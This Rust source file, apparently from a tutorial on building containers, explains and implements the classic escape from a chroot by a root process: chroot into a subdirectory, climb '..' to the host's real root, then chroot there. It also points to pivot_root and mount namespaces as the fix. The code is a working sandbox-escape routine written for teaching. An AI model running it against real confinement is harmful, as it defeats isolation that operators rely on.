//! Why chroot is not isolation: a root process walks out of it.
//!
//! Kernel feature: `..` stops climbing at the process's root directory —
//! but only if the walk passes *through* that directory. `chroot(2)` does not
//! move the current directory. So a process with `CAP_SYS_CHROOT` inside a
//! chroot can:
//!
//! 1. `chroot` into any subdirectory, *without* `chdir`-ing into it: its root
//!    is now that subdirectory, and its current directory lies outside it;
//! 2. `chdir("..")` again and again: the walk never meets its root, so it
//!    climbs all the way to the host's real `/`;
//! 3. `chroot(".")`: the real `/` is its root again.
//!
//! The man page says it plainly: "This call does not change the current
//! working directory ... it is not intended to be used for any kind of
//! security purpose". Chapter 2 closes the hole with a mount namespace and
//! `pivot_root(2)`, which moves the old root away instead of hiding it.
//!
//! Man pages: chroot(2) (NOTES), path_resolution(7).

use nix::errno::Errno;
use nix::sys::stat::{FileStat, SFlag, stat};
use nix::unistd::{chdir, chroot};

/// Directories a rootfs usually has; the first one present is the
/// "subdirectory" of step 1. Nothing is created or written.
const STEPPING_STONES: [&str; 5] = ["tmp", "proc", "dev", "etc", "bin"];

/// Leave the chroot this process is in. Needs `CAP_SYS_CHROOT`.
/// Allocation-free, so it can run in a forked child.
// ANCHOR: break_out
pub fn break_out_of_chroot() -> Result<(), (&'static str, Errno)> {
    // Step 1: chroot into a subdirectory but stay where we are: our current
    // directory is now *above* our root.
    let stone = STEPPING_STONES
        .into_iter()
        .find(|dir| stat(*dir).is_ok_and(|st| is_dir(&st)))
        .ok_or(("find a subdirectory to chroot into", Errno::ENOENT))?;
    chroot(stone).map_err(|e| ("chroot", e))?;

    // Steps 2 and 3: climb to the real root and make it ours.
    climb_to_real_root()
}
// ANCHOR_END: break_out

/// From a current directory that lies outside the process's root, climb to
/// the host's real root and `chroot` there. The real root is the one
/// directory that is its own parent.
// ANCHOR: climb
pub fn climb_to_real_root() -> Result<(), (&'static str, Errno)> {
    for _ in 0..4096 {
        let here = stat(".").map_err(|e| ("stat .", e))?;
        let parent = stat("..").map_err(|e| ("stat ..", e))?;
        if (here.st_dev, here.st_ino) == (parent.st_dev, parent.st_ino) {
            chroot(".").map_err(|e| ("chroot .", e))?;
            return chdir("/").map_err(|e| ("chdir /", e));
        }
        // ".." is clamped only at our root, which this walk never passes.
        chdir("..").map_err(|e| ("chdir ..", e))?;
    }
    Err(("climb to the real root", Errno::ELOOP))
}
// ANCHOR_END: climb

fn is_dir(st: &FileStat) -> bool {
    SFlag::from_bits_truncate(st.st_mode) & SFlag::S_IFMT == SFlag::S_IFDIR
}
